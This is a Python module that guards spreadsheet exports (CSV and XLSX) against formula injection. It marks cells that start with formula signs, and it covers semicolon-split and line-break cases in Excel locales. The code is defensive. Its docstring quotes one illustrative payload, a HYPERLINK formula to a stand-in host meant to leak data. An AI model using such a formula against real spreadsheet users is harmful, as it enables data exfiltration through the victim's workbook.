"""Every text cell of every export goes through here, so no user input ever runs as a formula.

A spreadsheet treats a cell that starts with `=`, `+`, `-` or `@` as a formula, and some also after
leading spaces, tabs, line breaks or control characters, or with the full-width ＝ ＋ － ＠ (OWASP "CSV
injection"): a visitor named
`=HYPERLINK("http://x.example/?leak","click")` would become a live link in the Kasubag's workbook.
CSV has no cell types, so such a cell gets a leading apostrophe (Excel's own "this is text" mark);
XLSX has them, so the cell is written as a string with Excel's quote-prefix style and keeps its text.
"""
from __future__ import annotations

import re
import unicodedata

from openpyxl.cell.cell import Cell

# What starts a formula, once a spreadsheet has skipped what it skips in front (below): the ASCII
# signs, and their full-width forms, which an East Asian input method types and some spreadsheets
# take for the ASCII ones.
FORMULA_SIGNS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
# A cell that itself starts with a tab or a line break is marked whatever follows (OWASP: a leading
# tab or CR is read as a formula start by some spreadsheets; LibreOffice drops a leading tab).
MARKED_STARTS = ("\t", "\r", "\n")
# A plain number such as -5, +62 or +6281234567890 is not a formula and is left as it is, so a phone
# number typed with its country code stays readable. A phone number with spaces or dashes
# (+62 812-3456) is not a plain number: Excel would evaluate it, so it gets the text mark, which
# Excel hides and shows as typed (a CSV read by other programs shows the leading ').
PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")
# Where a spreadsheet splitting a CSV at ";" starts a new cell inside one of our cells (csv_text).
CELL_STARTS = re.compile(r"(\r\n|\r|\n|;)")
# openpyxl refuses these control characters; a pasted letter number must not break the export. XML
# cannot hold U+FFFE and U+FFFF either, and openpyxl writes them: one visitor's institution made the
# whole period's sheet unreadable XML, which Excel "repairs" by dropping what it cannot read (h46f).
ILLEGAL = {chr(c) for c in range(32)} - {"\t", "\n", "\r"} | {"\ufffe", "\uffff"}


def _skipped(ch: str) -> bool:
    """What a spreadsheet may pass over before it decides a cell is a formula: spaces of any kind,
    tabs and line breaks, control and invisible format characters (a zero-width space, a BOM)."""
    return ch.isspace() or unicodedata.category(ch) in ("Cc", "Cf")


def looks_like_formula(text: str) -> bool:
    if text.startswith(MARKED_STARTS):
        return True
    start = 0
    while start < len(text) and _skipped(text[start]):
        start += 1
    rest = text[start:]
    return rest[:1] in FORMULA_SIGNS and not PLAIN_NUMBER.fullmatch(rest)


def csv_text(value: object) -> str:
    """A CSV cell that a spreadsheet shows as text, never evaluates.

    Excel splits a CSV file at the computer's list separator, and on an Indonesian Windows that is
    ";" whatever separator the file uses: our comma file's unquoted cell `Budi;=1+1` opens there as
    the two cells `Budi` and `=1+1`, a live formula. A line break does the same: split at ";", the
    quote our file puts around a cell with a line break is inside a field, a plain character there,
    so the line break ends the row and `Terima kasih<LF>=1+1;` opens with `=1+1` as the next row's
    first cell. So every piece after a ";" or a line break gets the same text mark as a whole cell
    would."""
    text = "" if value is None else str(value)
    if ";" in text or "\n" in text or "\r" in text:
        first, *rest = CELL_STARTS.split(text)  # pieces and the separators between them, alternately
        marked = [first]
        for separator, piece in zip(rest[::2], rest[1::2]):
            marked += [separator, "'" + piece if looks_like_formula(piece.lstrip(" ")) else piece]
        text = "".join(marked)
    return "'" + text if looks_like_formula(text) else text


def set_xlsx_text(cell: Cell, value: object) -> Cell:
    """Write `value` into an openpyxl cell as a string cell, never as a formula."""
    text = "".join(ch for ch in ("" if value is None else str(value)) if ch not in ILLEGAL)
    cell.value = text
    if cell.data_type != "s" or looks_like_formula(text):
        # openpyxl turns any string starting with "=" into a formula: force the string type, and
        # set quotePrefix so Excel keeps it text even after someone edits the cell.
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell
